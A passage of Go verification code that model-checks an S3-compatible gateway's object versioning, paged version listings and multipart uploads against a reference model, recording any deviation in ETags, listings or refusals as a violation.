						mode := "enabled-only"
						if start == 3 {
							mode = "suspended-bucket"
						}
						if start == 4 || start == 5 {
							mode = "stored-null-marker"
						}
						for _, h := range hist[:i+1] {
							if alpha[h].Kind == "suspend" {
								mode = "suspend-in-history"
							}
						}
						sig := ck.JoinSig(mode, "after:"+last, an)
						if mode == "suspend-in-history" {
							// the suspended-state rules are broken broadly (see known findings): one class per anomaly kind
							kind := an
							if i := strings.IndexAny(kind, "(:"); i > 0 {
								kind = kind[:i]
							}
							sig = ck.JoinSig(mode, kind)
						}
						r.Violation(sig, map[string]any{"config": cfg.String(), "start": []string{"fresh enabled bucket", "object k1 predates enabling (null version)", "k1 has a version and a newer null version written while suspended", "k1 has a version, the bucket is Suspended", "k1 has a version, a null delete marker written while suspended and a newer version", "k1 has two versions and a null version that superseded a stored null delete marker"}[start],
							"program": names, "model": m.key()})
					}
					for i, oi := range hist {
						an, skipped := c.apply(m, alpha[oi])
						if skipped {
							return m, "", false
						}
						st.pinTimes(i + 1)
						if an != "" {
							report(i, an)
							return m, "", false
						}
						if i == len(hist)-1 {
							// earlier prefixes were observed when they were the newest step
							// read-only observations do not make the model diverge: report and keep exploring
							for _, a := range c.observe(m) {
								report(i, a)
							}
						}
					}
					if len(hist) == 0 {
						for _, a := range c.observe(m) {
							report(-1, a)
						}
					}
					return m, m.key() + "|" + st.fileCounts(), true
				}
				_, k0, ok := replay(nil)
				if !ok {
					continue
				}
				seen := map[string]bool{k0: true}
				frontier := []node{{nil}}
				for d := 0; d < depth; d++ {
					var next []node
					for ni, nd := range frontier {
						for oi := range alpha {
							if d == depth-1 && !r.Mine(ni*len(alpha)+oi) {
								continue
							}
							h := append(append([]int{}, nd.hist...), oi)
							_, key, ok := replay(h)
							r.Add("evaluations", 1)
							r.Add("transitions", 1)
							if !ok {
								continue
							}
							if !seen[key] {
								seen[key] = true
								next = append(next, node{h})
							}
						}
					}
					frontier = next
				}
				r.Add("states", int64(len(seen)))
				for k := range seen {
					r.Distinct(fmt.Sprintf("%d|%d|%s", ci, start, k))
				}
				r.Outcome(fmt.Sprintf("start%d-closed", start))
			}
			st.Close()
		}
	})
	r.Sample(map[string]any{"program": []string{"put(k1,v1)", "put(k1,v2)", "delete(k1)", "delete(k1,version=newest)"}, "checks": "GET by key/version, HEAD by version, ListObjectVersions max-keys 1,2,1000"})
}

// c09ListingTraps: paged ListObjectVersions over key sets in which a sibling sorts before '/' (d.z beside d/x): the
// walk that follows the returned markers ends and yields every (key, version id) exactly once, for null versions
// (objects that predate enabling) and for id versions.
func c09ListingTraps(r *ck.Run, st *pxStore, cfgName string) {
	vals := []wval{mkval(0), mkval(1)}
	for _, keys := range [][]string{{"d/x", "d/y", "d.z"}, {"d/x", "d-1", "d!x", "d"}, {"a/b/c", "a/b.c", "a/b", "a.b"}} {
		for _, mode := range []string{"null-versions", "id-versions", "null-and-id-versions"} {
			st.wipe()
			acl := []byte(`{"Owner":"acc1","Grantees":[]}`)
			if err := st.A.CreateBucket(st.ctx(), &s3.CreateBucketInput{Bucket: sp(c09Bucket)}, acl); err != nil {
				ck.Fatal("create bucket: %v", err)
			}
			want := map[string]int{}
			usable := keys
			if mode != "id-versions" {
				usable = nil
				for _, k := range keys {
					if err := st.put(st.A, c09Bucket, k, vals[0]); err != nil {
						continue // a key that cannot exist beside the others (file vs directory)
					}
					usable = append(usable, k)
					want[k+"|null"]++
				}
			}
			if err := st.A.PutBucketVersioning(st.ctx(), c09Bucket, types.BucketVersioningStatusEnabled); err != nil {
				ck.Fatal("enable: %v", err)
			}
			if mode != "null-versions" {
				for _, k := range usable {
					out, err := st.A.PutObject(st.ctx(), s3response.PutObjectInput{Bucket: sp(c09Bucket), Key: sp(k), Body: bytes.NewReader(vals[1].Body), ContentLength: i64(int64(len(vals[1].Body)))})
					if err != nil {
						continue
					}
					want[k+"|"+out.VersionID]++
				}
			}
			for _, max := range []int32{1, 2, 3} {
				got := map[string]int{}
				km, vm, empty := "", "", ""
				pages := 0
				verdict := ""
				for {
					mx := max
					lv, err := st.B.ListObjectVersions(st.ctx(), &s3.ListObjectVersionsInput{Bucket: sp(c09Bucket), Prefix: &empty, Delimiter: &empty, KeyMarker: &km, VersionIdMarker: &vm, MaxKeys: &mx})
					r.Add("evaluations", 1)
					if err != nil {
						verdict = "listing-error:" + errClassAPI(err)
						break
					}
					pages++
					for _, v := range lv.Versions {
						got[getS(v.Key)+"|"+getS(v.VersionId)]++
					}
					for _, d := range lv.DeleteMarkers {
						got[getS(d.Key)+"|"+getS(d.VersionId)]++
					}
					if lv.IsTruncated == nil || !*lv.IsTruncated {
						break
					}
					km, vm = getS(lv.NextKeyMarker), getS(lv.NextVersionIdMarker)
					if pages > len(want)+3 {
						verdict = "pagination-does-not-terminate"
						break
					}
				}
				if verdict == "" {
					for k, n := range want {
						if got[k] < n {
							verdict = "version-missing-from-the-walk"
						}
					}
					for k, n := range got {
						if n > want[k] && verdict == "" {
							verdict = "version-listed-more-than-once"
						}
					}
				}
				r.Distinct(fmt.Sprintf("listing-traps|%s|%v|%s|%d", cfgName, keys, mode, max))
				r.Outcome("listing-traps:" + orOK(verdict))
				if verdict != "" {
					r.Violation(ck.JoinSig("paged-list-versions", "sibling-sorts-before-slash", mode, verdict), map[string]any{"config": cfgName, "keys": usable, "mode": mode, "max-keys": max, "expected": fmt.Sprint(want), "collected": fmt.Sprint(got)})
				}
			}
		}
	}
}

// fileCounts: coarse implementation fingerprint (number of entries per directory level; no names).
func (st *pxStore) fileCounts() string {
	cnt := func(root string) int {
		n := 0
		filepath.WalkDir(root, func(p string, e fs.DirEntry, err error) error {
			if err == nil && !e.IsDir() && !strings.Contains(p, ".sgwtmp") {
				n++
			}
			return nil
		})
		return n
	}
	return fmt.Sprintf("%d/%d", cnt(filepath.Join(st.Root, c09Bucket)), cnt(filepath.Join(st.Ver, c09Bucket)))
}
