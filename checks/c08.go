package checks

import (
	"bytes"
	"crypto/md5"
	"encoding/hex"
	"fmt"
	"sort"
	"strings"

	"github.com/aws/aws-sdk-go-v2/service/s3"
	"github.com/aws/aws-sdk-go-v2/service/s3/types"
	"github.com/versity/versitygw/backend"
	"github.com/versity/versitygw/s3response"

	"verif/ck"
)

func init() { Registry["C08"] = C08 }

const c08Bucket = "mbk"

type c08Part struct {
	Data []byte
	ETag string
}

type c08Upload struct {
	Key   string
	Meta  string
	Parts map[int]c08Part
}

type c08Obj struct {
	Data []byte
	ETag string
	Meta string
}

type c08Model struct {
	Uploads map[string]*c08Upload // symbolic name u1..u3 → upload
	Objects map[string]c08Obj
	// DirObj: the directory object "k2/" (the key of upload u3 with a trailing slash) exists
	DirObj bool
}

func (m *c08Model) key() string {
	var b strings.Builder
	var us []string
	for u := range m.Uploads {
		us = append(us, u)
	}
	sort.Strings(us)
	for _, u := range us {
		up := m.Uploads[u]
		fmt.Fprintf(&b, "%s[%s]:", u, up.Key)
		var ns []int
		for n := range up.Parts {
			ns = append(ns, n)
		}
		sort.Ints(ns)
		for _, n := range ns {
			fmt.Fprintf(&b, "%d=%s,", n, hashS(up.Parts[n].Data))
		}
		b.WriteString(";")
	}
	var ks []string
	for k := range m.Objects {
		ks = append(ks, k)
	}
	sort.Strings(ks)
	for _, k := range ks {
		fmt.Fprintf(&b, "%s=%s/%s/%s;", k, hashS(m.Objects[k].Data), m.Objects[k].ETag, m.Objects[k].Meta)
	}
	fmt.Fprintf(&b, "dirobj=%v", m.DirObj)
	return b.String()
}

type c08Op struct {
	Kind  string // part partcopy complete abort
	U     string
	N     int
	Data  string // A B c
	Range string
	Spec  string
}

func (o c08Op) String() string {
	switch o.Kind {
	case "part":
		return fmt.Sprintf("uploadPart(%s,%d,%s)", o.U, o.N, o.Data)
	case "partcopy":
		return fmt.Sprintf("uploadPartCopy(%s,%d,range=%q)", o.U, o.N, o.Range)
	case "complete":
		return fmt.Sprintf("complete(%s,%s)", o.U, o.Spec)
	case "part-refused":
		return fmt.Sprintf("uploadPartWithShortBody(%s,%d)", o.U, o.N)
	case "partcopy-obj":
		return fmt.Sprintf("uploadPartCopyOfAssembledObject(%s,%d,range=%q)", o.U, o.N, o.Range)
	}
	return o.Kind + "(" + o.U + ")"
}

var c08Data = map[string][]byte{"A": []byte("AAAAAAAAAA"), "B": []byte("BBBBBBBBBBBB"), "c": []byte("ccc")}
var c08Src = []byte("0123456789abcdefghij")

func c08Alphabet(thorough bool) []c08Op {
	var ops []c08Op
	for _, u := range []string{"u1", "u2"} {
		for _, n := range []int{1, 2} {
			for _, d := range []string{"A", "B", "c"} {
				if u == "u2" && d == "B" && !thorough {
					continue
				}
				ops = append(ops, c08Op{Kind: "part", U: u, N: n, Data: d})
			}
		}
	}
	ops = append(ops, c08Op{Kind: "part", U: "u3", N: 1, Data: "A"})
	// sparse part numbers: the minimum size applies to every listed part but the last, whatever its number
	ops = append(ops, c08Op{Kind: "part", U: "u1", N: 5, Data: "c"}, c08Op{Kind: "part", U: "u1", N: 9, Data: "B"})
	// source is 20 bytes: last byte 19 is the largest valid end; an end equal to the size is beyond the object
	for _, rg := range []string{"", "bytes=0-0", "bytes=1-", "bytes=0-99999", "garbage", "bytes=2-9", "bytes=0-19", "bytes=0-20", "bytes=12-20"} {
		ops = append(ops, c08Op{Kind: "partcopy", U: "u1", N: 2, Range: rg})
	}
	for _, spec := range []string{"1", "1,2", "2,1", "1,1", "2", "1!", "1,3", "3", "1,5,9", "5,9", "1,9"} {
		ops = append(ops, c08Op{Kind: "complete", U: "u1", Spec: spec})
	}
	ops = append(ops, c08Op{Kind: "complete", U: "u2", Spec: "1"}, c08Op{Kind: "complete", U: "u2", Spec: "1,2"}, c08Op{Kind: "complete", U: "u3", Spec: "1"},
		c08Op{Kind: "abort", U: "u1"}, c08Op{Kind: "abort", U: "u2"},
		// the source is the object another upload assembled (its ETag is a multipart ETag, not the MD5 of its bytes)
		c08Op{Kind: "partcopy-obj", U: "u3", N: 1, Range: ""}, c08Op{Kind: "partcopy-obj", U: "u3", N: 1, Range: "whole"},
		c08Op{Kind: "putdir", U: "u3"}, c08Op{Kind: "part-refused", U: "u1", N: 1, Data: "B"}, c08Op{Kind: "complete-other-key", U: "u1"}, c08Op{Kind: "abort-other-key", U: "u1"})
	return ops
}

func md5hex(b []byte) string { h := md5.Sum(b); return hex.EncodeToString(h[:]) }

func mpETagOf(parts [][]byte) string {
	var all []byte
	for _, p := range parts {
		h := md5.Sum(p)
		all = append(all, h[:]...)
	}
	h := md5.Sum(all)
	return fmt.Sprintf("\"%s-%d\"", hex.EncodeToString(h[:]), len(parts))
}

type c08Runner struct {
	st  *pxStore
	ids map[string]string // symbolic → real upload id
	min int64
}

func (c *c08Runner) init() *c08Model {
	st := c.st
	st.wipe()
	st.mkBucket(c08Bucket)
	if err := st.put(st.A, c08Bucket, "src", wval{Body: c08Src, CT: "text/plain", Meta: "s"}); err != nil {
		ck.Fatal("put src: %v", err)
	}
	m := &c08Model{Uploads: map[string]*c08Upload{}, Objects: map[string]c08Obj{"src": {Data: c08Src, ETag: etagOf(c08Src), Meta: "s"}}}
	c.ids = map[string]string{}
	for _, u := range []struct{ name, key, meta string }{{"u1", "k1", "m1"}, {"u2", "k1", ""}, {"u3", "k2", "m3"}} {
		in := s3response.CreateMultipartUploadInput{Bucket: sp(c08Bucket), Key: &u.key}
		if u.meta != "" {
			in.Metadata = map[string]string{"w": u.meta}
		}
		res, err := st.A.CreateMultipartUpload(st.ctx(), in)
		if err != nil {
			ck.Fatal("create mpu: %v", err)
		}
		c.ids[u.name] = res.UploadId
		m.Uploads[u.name] = &c08Upload{Key: u.key, Meta: u.meta, Parts: map[int]c08Part{}}
	}
	return m
}

// apply runs op; returns an anomaly string ("" = conforms).
func (c *c08Runner) apply(m *c08Model, o c08Op) string {
	st := c.st
	p := st.A
	up, exists := m.Uploads[o.U]
	id := c.ids[o.U]
	key := map[string]string{"u1": "k1", "u2": "k1", "u3": "k2"}[o.U]
	noSuch := func(err error) bool { return err != nil && strings.Contains(err.Error(), "NoSuchUpload") }
	switch o.Kind {
	case "part":
		data := c08Data[o.Data]
		out, err := p.UploadPart(st.ctx(), &s3.UploadPartInput{Bucket: sp(c08Bucket), Key: &key, UploadId: &id, PartNumber: i32(int32(o.N)), Body: bytes.NewReader(data), ContentLength: i64(int64(len(data)))})
		if !exists {
			if !noSuch(err) {
				return "upload-part-to-finished-upload:" + errOrOK(err)
			}
			return ""
		}
		if err != nil {
			return "upload-part-failed:" + errClassAPI(err)
		}
		if strings.Trim(getS(out.ETag), `"`) != md5hex(data) {
			return "upload-part-wrong-etag"
		}
		up.Parts[o.N] = c08Part{Data: data, ETag: getS(out.ETag)}
	case "partcopy":
		var want []byte
		ok := true
		switch o.Range {
		case "":
			want = c08Src
		case "bytes=0-0":
			want = c08Src[0:1]
		case "bytes=1-":
			want = c08Src[1:]
		case "bytes=2-9":
			want = c08Src[2:10]
		case "bytes=0-19":
			want = c08Src
		default:
			ok = false // beyond the end / garbage: refused
		}
		res, err := p.UploadPartCopy(st.ctx(), &s3.UploadPartCopyInput{Bucket: sp(c08Bucket), Key: &key, UploadId: &id, PartNumber: i32(int32(o.N)), CopySource: sp(c08Bucket + "/src"), CopySourceRange: &o.Range, ExpectedBucketOwner: sp("acc1")})
		if !exists {
			if !noSuch(err) {
				return "upload-part-copy-to-finished-upload:" + errOrOK(err)
			}
			return ""
		}
		if !ok {
			if err == nil {
				return "upload-part-copy-accepted-invalid-range"
			}
			return ""
		}
		if err != nil {
			return "upload-part-copy-failed:" + errClassAPI(err)
		}
		if strings.Trim(getS(res.ETag), `"`) != md5hex(want) {
			return "upload-part-copy-wrong-etag(range " + rangeClass(o.Range) + ")"
		}
		up.Parts[o.N] = c08Part{Data: want, ETag: getS(res.ETag)}
	case "partcopy-obj":
		// u3 (key k2) copies the whole of k1, the object assembled by u1 / u2, if there is one
		src, have := m.Objects["k1"]
		rg := o.Range
		if rg == "whole" {
			rg = fmt.Sprintf("bytes=0-%d", len(src.Data)-1)
			if !have {
				rg = "bytes=0-0"
			}
		}
		res, err := p.UploadPartCopy(st.ctx(), &s3.UploadPartCopyInput{Bucket: sp(c08Bucket), Key: &key, UploadId: &id, PartNumber: i32(int32(o.N)), CopySource: sp(c08Bucket + "/k1"), CopySourceRange: &rg, ExpectedBucketOwner: sp("acc1")})
		if !exists {
			if !noSuch(err) && !(err != nil && !have) {
				return "upload-part-copy-to-finished-upload:" + errOrOK(err)
			}
			return ""
		}
		if !have {
			if err == nil {
				return "upload-part-copy-of-missing-source-accepted"
			}
			return ""
		}
		if err != nil {
			return "upload-part-copy-of-assembled-object-failed:" + errClassAPI(err)
		}
		if strings.Trim(getS(res.ETag), `"`) != md5hex(src.Data) {
			return "upload-part-copy-wrong-etag(assembled source, " + map[bool]string{true: "no range", false: "whole range"}[o.Range == ""] + ")"
		}
		up.Parts[o.N] = c08Part{Data: src.Data, ETag: getS(res.ETag)}
	case "complete":
		var nums []int
		wrongETag := false
		for _, f := range strings.Split(o.Spec, ",") {
			if strings.HasSuffix(f, "!") {
				wrongETag = true
				f = strings.TrimSuffix(f, "!")
			}
			var n int
			fmt.Sscan(f, &n)
			nums = append(nums, n)
		}
		var cps []types.CompletedPart
		valid := exists
		var datas [][]byte
		for i, n := range nums {
			pn := int32(n)
			etag := md5hex([]byte("nonexistent"))
			if exists {
				if pt, ok := up.Parts[n]; ok {
					etag = pt.ETag
					datas = append(datas, pt.Data)
					if i < len(nums)-1 && int64(len(pt.Data)) < c.min {
						valid = false
					}
				} else {
					valid = false
				}
			}
			if wrongETag {
				etag = md5hex([]byte("wrong"))
				valid = false
			}
			if i > 0 && nums[i] <= nums[i-1] {
				valid = false
			}
			cps = append(cps, types.CompletedPart{PartNumber: &pn, ETag: &etag})
		}
		_, err := p.CompleteMultipartUpload(st.ctx(), &s3.CompleteMultipartUploadInput{Bucket: sp(c08Bucket), Key: &key, UploadId: &id, MultipartUpload: &types.CompletedMultipartUpload{Parts: cps}})
		if !exists {
			if !noSuch(err) {
				return "complete-of-finished-upload:" + errOrOK(err)
			}
			return ""
		}
		if !valid {
			if err == nil {
				return "invalid-complete-accepted(" + specClass(o.Spec) + ")"
			}
			return ""
		}
		if key == "k2" && m.DirObj {
			// the key of a file object cannot take the place of the directory object "k2/"
			if err == nil {
				return "complete-replaced-a-directory-object"
			}
			return ""
		}
		if err != nil {
			return "valid-complete-refused:" + errClassAPI(err)
		}
		var all []byte
		for _, d := range datas {
			all = append(all, d...)
		}
		m.Objects[key] = c08Obj{Data: all, ETag: mpETagOf(datas), Meta: up.Meta}
		delete(m.Uploads, o.U)
	case "putdir":
		// the directory object "k2/"
		k := "k2/"
		_, err := p.PutObject(st.ctx(), s3response.PutObjectInput{Bucket: sp(c08Bucket), Key: &k, Body: bytes.NewReader(nil), ContentLength: i64(0), Metadata: map[string]string{"w": "dir"}})
		if _, isFile := m.Objects["k2"]; isFile {
			if err == nil {
				return "directory-object-created-below-a-file-object"
			}
			return ""
		}
		if err != nil {
			return "put-directory-object-failed:" + errClassAPI(err)
		}
		m.DirObj = true
	case "part-refused":
		// an UploadPart that must be refused (fewer bytes than declared): whatever was uploaded under that number before stays
		data := c08Data[o.Data]
		_, err := p.UploadPart(st.ctx(), &s3.UploadPartInput{Bucket: sp(c08Bucket), Key: &key, UploadId: &id, PartNumber: i32(int32(o.N)), Body: bytes.NewReader(data[:len(data)-1]), ContentLength: i64(int64(len(data)))})
		if err == nil {
			return "short-part-upload-accepted"
		}
	case "complete-other-key", "abort-other-key":
		// the upload id together with another key of the bucket names no upload: refused, nothing changes
		other := map[string]string{"k1": "k2", "k2": "k1"}[key]
		var err error
		if o.Kind == "abort-other-key" {
			err = p.AbortMultipartUpload(st.ctx(), &s3.AbortMultipartUploadInput{Bucket: sp(c08Bucket), Key: &other, UploadId: &id})
		} else {
			var cps []types.CompletedPart
			if exists {
				if pt, ok := up.Parts[1]; ok {
					et := pt.ETag
					cps = append(cps, types.CompletedPart{PartNumber: i32(1), ETag: &et})
				}
			}
			if len(cps) == 0 {
				et := `"00000000000000000000000000000000"`
				cps = append(cps, types.CompletedPart{PartNumber: i32(1), ETag: &et})
			}
			_, err = p.CompleteMultipartUpload(st.ctx(), &s3.CompleteMultipartUploadInput{Bucket: sp(c08Bucket), Key: &other, UploadId: &id, MultipartUpload: &types.CompletedMultipartUpload{Parts: cps}})
		}
		if err == nil {
			return o.Kind + "-succeeded"
		}
	case "abort":
		err := p.AbortMultipartUpload(st.ctx(), &s3.AbortMultipartUploadInput{Bucket: sp(c08Bucket), Key: &key, UploadId: &id})
		if !exists {
			if !noSuch(err) {
				return "abort-of-finished-upload:" + errOrOK(err)
			}
			return ""
		}
		if err != nil {
			return "abort-failed:" + errClassAPI(err)
		}
		delete(m.Uploads, o.U)
	}
	return ""
}

func errOrOK(err error) string {
	if err == nil {
		return "succeeded"
	}
	return errClassAPI(err)
}

func rangeClass(r string) string {
	switch {
	case r == "":
		return "none"
	case strings.HasSuffix(r, "-"):
		return "open-ended"
	}
	return "closed"
}

func specClass(s string) string {
	switch s {
	case "2,1", "1,1":
		return "bad-order"
	case "1!":
		return "wrong-etag"
	case "1,3", "3", "2":
		return "missing-part"
	}
	return "small-non-last-part-or-missing"
}

func (c *c08Runner) observe(m *c08Model) []string {
	st := c.st
	p := st.B
	var an []string
	// objects
	for _, key := range []string{"k1", "k2", "src"} {
		out, err := p.GetObject(st.ctx(), &s3.GetObjectInput{Bucket: sp(c08Bucket), Key: &key, Range: sp("")})
		want, ok := m.Objects[key]
		if !ok {
			if err == nil {
				out.Body.Close()
				an = append(an, "object-exists-without-valid-complete")
			}
			// ... and no part of an unfinished upload answers for the key either
			for _, pn := range []int32{1, 5} {
				pn := pn
				if h, herr := p.HeadObject(st.ctx(), &s3.HeadObjectInput{Bucket: sp(c08Bucket), Key: &key, PartNumber: &pn}); herr == nil {
					_ = h
					an = append(an, "head-by-part-number-answers-for-a-key-without-object")
					break
				}
			}
			continue
		}
		if err != nil {
			an = append(an, "completed-object-unreadable:"+errClassAPI(err))
			continue
		}
		var buf bytes.Buffer
		buf.ReadFrom(out.Body)
		out.Body.Close()
		if !bytes.Equal(buf.Bytes(), want.Data) {
			an = append(an, "completed-object-wrong-bytes")
		}
		if getS(out.ETag) != want.ETag {
			an = append(an, "completed-object-wrong-etag")
		}
		if out.Metadata["w"] != want.Meta {
			an = append(an, "completed-object-wrong-metadata")
		}
	}
	if m.DirObj {
		k := "k2/"
		if h, err := p.HeadObject(st.ctx(), &s3.HeadObjectInput{Bucket: sp(c08Bucket), Key: &k}); err != nil || h.Metadata["w"] != "dir" {
			an = append(an, "directory-object-gone-or-changed")
		}
	}
	// listing never shows parts / uploads
	empty := ""
	max := int32(1000)
	lst, err := p.ListObjectsV2(st.ctx(), &s3.ListObjectsV2Input{Bucket: sp(c08Bucket), Prefix: &empty, Delimiter: &empty, StartAfter: &empty, ContinuationToken: &empty, MaxKeys: &max})
	if err != nil {
		an = append(an, "list-objects-error")
	} else {
		var got []string
		for _, o := range lst.Contents {
			got = append(got, getS(o.Key))
		}
		var want []string
		for k := range m.Objects {
			want = append(want, k)
		}
		if m.DirObj {
			want = append(want, "k2/")
		}
		sort.Strings(want)
		sort.Strings(got)
		if strings.Join(got, ",") != strings.Join(want, ",") {
			an = append(an, "object-listing-differs")
		}
	}
	// ... also not when the prefix points into the gateway's own upload area
	for _, pfx := range []string{".sgwtmp/", ".sgwtmp/multipart/", ".sgwtmp/multipart"} {
		pfx := pfx
		for _, dl := range []string{"", "/"} {
			dl := dl
			l2, err := p.ListObjectsV2(st.ctx(), &s3.ListObjectsV2Input{Bucket: sp(c08Bucket), Prefix: &pfx, Delimiter: &dl, StartAfter: &empty, ContinuationToken: &empty, MaxKeys: &max})
			if err == nil && (len(l2.Contents) > 0 || len(l2.CommonPrefixes) > 0) {
				an = append(an, "listing-shows-internal-upload-state")
			}
		}
	}
	// an upload id is valid together with its own key only
	for _, name := range []string{"u1", "u3"} {
		if _, ok := m.Uploads[name]; !ok {
			continue
		}
		id := c.ids[name]
		other := map[string]string{"u1": "k2", "u3": "k1"}[name]
		mm := int32(1000)
		marker := ""
		if _, err := p.ListParts(st.ctx(), &s3.ListPartsInput{Bucket: sp(c08Bucket), Key: &other, UploadId: &id, MaxParts: &mm, PartNumberMarker: &marker}); err == nil {
			an = append(an, "list-parts-with-the-upload-id-of-another-key-succeeded")
		}
	}
	// ListParts per upload (max 1000 and a max-parts=1 walk)
	for _, name := range []string{"u1", "u2", "u3"} {
		id := c.ids[name]
		key := map[string]string{"u1": "k1", "u2": "k1", "u3": "k2"}[name]
		up, ok := m.Uploads[name]
		for _, mx := range []int32{1000, 1} {
			var got []string
			marker := ""
			pages := 0
			for {
				mm := mx
				lp, err := p.ListParts(st.ctx(), &s3.ListPartsInput{Bucket: sp(c08Bucket), Key: &key, UploadId: &id, MaxParts: &mm, PartNumberMarker: &marker})
				if !ok {
					if err == nil {
						an = append(an, "list-parts-of-finished-upload-succeeded")
					}
					break
				}
				if err != nil {
					an = append(an, "list-parts-failed:"+errClassAPI(err))
					break
				}
				for _, pt := range lp.Parts {
					got = append(got, fmt.Sprintf("%d:%d:%s", pt.PartNumber, pt.Size, strings.Trim(pt.ETag, `"`)))
				}
				pages++
				if !lp.IsTruncated || pages > 6 {
					break
				}
				marker = fmt.Sprint(lp.NextPartNumberMarker)
			}
			if ok {
				var want []string
				var ns []int
				for n := range up.Parts {
					ns = append(ns, n)
				}
				sort.Ints(ns)
				for _, n := range ns {
					want = append(want, fmt.Sprintf("%d:%d:%s", n, len(up.Parts[n].Data), md5hex(up.Parts[n].Data)))
				}
				if strings.Join(got, " ") != strings.Join(want, " ") {
					an = append(an, fmt.Sprintf("list-parts(max=%d)-differs", mx))
				}
			}
		}
	}
	// ListMultipartUploads: full and max-uploads=1 walk
	for _, mx := range []int32{1000, 1} {
		got := map[string]int{}
		km, um := "", ""
		pages := 0
		for {
			mm := mx
			lu, err := p.ListMultipartUploads(st.ctx(), &s3.ListMultipartUploadsInput{Bucket: sp(c08Bucket), Prefix: &empty, Delimiter: &empty, KeyMarker: &km, UploadIdMarker: &um, MaxUploads: &mm})
			if err != nil {
				an = append(an, "list-uploads-failed:"+errClassAPI(err))
				break
			}
			for _, u := range lu.Uploads {
				got[u.Key+"|"+u.UploadID]++
			}
			pages++
			if !lu.IsTruncated {
				break
			}
			if pages > 6 {
				an = append(an, fmt.Sprintf("list-uploads(max=%d)-does-not-terminate", mx))
				break
			}
			km, um = lu.NextKeyMarker, lu.NextUploadIDMarker
		}
		want := map[string]int{}
		for name, up := range m.Uploads {
			want[up.Key+"|"+c.ids[name]] = 1
		}
		for k := range want {
			if got[k] == 0 {
				an = append(an, fmt.Sprintf("list-uploads(max=%d)-misses-an-upload", mx))
				break
			}
		}
		for k, n := range got {
			if want[k] == 0 {
				an = append(an, fmt.Sprintf("list-uploads(max=%d)-shows-finished-upload", mx))
				break
			}
			if n > 1 {
				an = append(an, fmt.Sprintf("list-uploads(max=%d)-repeats-an-upload", mx))
				break
			}
		}
	}
	// markers are a position in the (key, upload id) order, whether or not they name an upload in progress: a key marker
	// before every key lists everything, a key marker lists the uploads of later keys, a marker pair of a finished
	// upload lists what comes after it
	for _, mk := range []struct{ km, um string }{{"k0", ""}, {"k1", ""}, {"k1", "00000000-0000-0000-0000-000000000000"}, {"k0", "zzzzzzzz"}} {
		mm := int32(1000)
		km, um := mk.km, mk.um
		lu, err := p.ListMultipartUploads(st.ctx(), &s3.ListMultipartUploadsInput{Bucket: sp(c08Bucket), Prefix: &empty, Delimiter: &empty, KeyMarker: &km, UploadIdMarker: &um, MaxUploads: &mm})
		if err != nil {
			an = append(an, "list-uploads-with-marker-failed:"+errClassAPI(err))
			continue
		}
		got := map[string]bool{}
		for _, u := range lu.Uploads {
			got[u.Key+"|"+u.UploadID] = true
		}
		for name, up := range m.Uploads {
			id := c.ids[name]
			after := up.Key > km || (up.Key == km && um != "" && id > um)
			if after != got[up.Key+"|"+id] {
				an = append(an, "list-uploads-after-a-marker-that-names-no-upload-differs")
				break
			}
		}
	}
	return dedup(an)
}

func C08(r *ck.Run) {
	if backend.MinPartSize != 8 {
		ck.Fatal("this check needs the instrumented build with backend.MinPartSize=8 (run it through ./run); MinPartSize is %d", backend.MinPartSize)
	}
	depth := 3
	if r.Thorough() {
		depth = 4
	}
	r.Rule(fmt.Sprintf("breadth-first search over every program of length <= %d of 44 (thorough 46) operations — uploadPartCopy whose source is the object another upload assembled (multipart ETag; no range / the whole range), a directory object put at the key of an upload with a trailing slash (the completion must not replace it), uploadPart with a short body (refused), completion and abort naming another key (refused), uploadPart (2 uploads of the same key + 1 of another key, part numbers 1-2 and sparse 5, 9, 10-byte / 12-byte / 3-byte bodies, re-uploads included), uploadPartCopy with 9 source ranges (whole, sub-ranges, last byte, end equal to and beyond the source size, garbage), complete with 11 part specifications (valid, reordered, repeated, missing, wrong ETag, too-small non-last part), abort — on a real posix backend (minimum part size shrunk to 8 bytes by the overlay), states deduplicated on the reference multipart model; after EVERY step a second backend instance checks GET of both keys (bytes, multipart ETag, initiation metadata), ListObjectsV2, ListParts of every upload (max-parts 1000 and 1) and ListMultipartUploads (max-uploads 1000 and 1, markers followed, markers that name no upload in progress); distinct = distinct state", depth))
	r.Assume("backend.MinPartSize is 8 bytes in this build (overlay constant), everything else is the real code; upload listings are compared as sets plus pagination completeness")
	cfgs := []pxCfg{{}}
	if r.Thorough() {
		cfgs = append(cfgs, pxCfg{NoTmp: true}, pxCfg{Sidecar: true})
	}
	alpha := c08Alphabet(r.Thorough())
	r.Sharded(16, func() {
		for ci, cfg := range cfgs {
			st := newPxStore("c08", cfg)
			c := &c08Runner{st: st, min: 8}
			type node struct{ hist []int }
			replay := func(hist []int) (string, bool) {
				m := c.init()
				report := func(i int, an string) {
					var names []string
					for _, h := range hist[:i+1] {
						names = append(names, alpha[h].String())
					}
					last := "start"
					if i >= 0 {
						last = alpha[hist[i]].Kind
					}
					r.Violation(ck.JoinSig("after:"+last, an), map[string]any{"config": cfg.String(), "program": names, "model": m.key()})
				}
				for i, oi := range hist {
					if an := c.apply(m, alpha[oi]); an != "" {
						report(i, an)
						return "", false
					}
					if i == len(hist)-1 {
						for _, a := range c.observe(m) {
							report(i, a)
						}
					}
				}
				if len(hist) == 0 {
					for _, a := range c.observe(m) {
						report(-1, a)
					}
				}
				return m.key(), true
			}
			k0, _ := replay(nil)
			seen := map[string]bool{k0: true}
			frontier := []node{{nil}}
			for d := 0; d < depth; d++ {
				var next []node
				for ni, nd := range frontier {
					for oi := range alpha {
						if d == depth-1 && !r.Mine(ni*len(alpha)+oi) {
							continue
						}
						h := append(append([]int{}, nd.hist...), oi)
						key, ok := replay(h)
						r.Add("evaluations", 1)
						r.Add("transitions", 1)
						if ok && !seen[key] {
							seen[key] = true
							next = append(next, node{h})
						}
					}
				}
				frontier = next
			}
			r.Add("states", int64(len(seen)))
			for k := range seen {
				r.Distinct(fmt.Sprintf("%d|%s", ci, k))
			}
			r.Outcome("closed:" + cfg.String())
			st.Close()
		}
	})
	r.Sample(map[string]any{"program": []string{"uploadPart(u1,1,A)", "uploadPart(u1,2,c)", "complete(u1,1,2)"}, "expected": "k1 = AAAAAAAAAAccc, ETag md5(md5s)-2, metadata of u1; u1 gone; u2 (same key) untouched"})
}
