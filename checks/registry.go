package checks

import "verif/ck"

// Registry maps property ids to check bodies.
var Registry = map[string]func(*ck.Run){}
