package checks

import (
	"bytes"
	"encoding/json"
	"fmt"
	"strings"

	"verif/ck"
	"verif/gw"
)

func init() { Registry["C03"] = C03 }

// ---- reference policy language (written from the statement of C14/C03) ----

type refStmt struct {
